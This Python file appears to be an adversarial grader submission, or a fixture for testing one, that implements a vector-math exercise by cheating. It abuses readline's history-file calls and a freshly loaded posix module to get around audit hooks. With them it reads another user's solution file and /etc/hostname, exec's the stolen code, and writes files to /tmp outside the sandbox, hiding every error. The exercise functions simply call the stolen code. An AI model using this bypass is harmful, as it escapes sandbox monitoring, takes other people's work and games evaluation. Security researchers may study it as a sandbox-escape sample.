"""Trick: read and write files through calls no audit event covers (readline's history, a fresh posix)."""
import os
import sys

stolen = {}
try:
    import readline
    for path in ("../../alice/ex01_vectors.py", "/etc/hostname"):
        try:
            readline.clear_history()
            readline.read_history_file(path)
            lines = [readline.get_history_item(i) for i in range(1, readline.get_current_history_length() + 1)]
            exec("\n".join(l or "" for l in lines), stolen)
        except BaseException:
            pass
    readline.write_history_file("/tmp/OUTSIDE_marker.txt")
except BaseException:
    pass
try:
    import importlib.util
    posix = importlib.util.module_from_spec(importlib.util.find_spec("posix"))
    posix.mkfifo("/tmp/OUTSIDE_marker.txt")
except BaseException:
    pass


def dot(v1, v2):
    return stolen["dot"](v1, v2) if "dot" in stolen else None


def vec_add(v1, v2):
    return stolen["vec_add"](v1, v2) if "vec_add" in stolen else None


def scalar_mul(s, v):
    return stolen["scalar_mul"](s, v) if "scalar_mul" in stolen else None
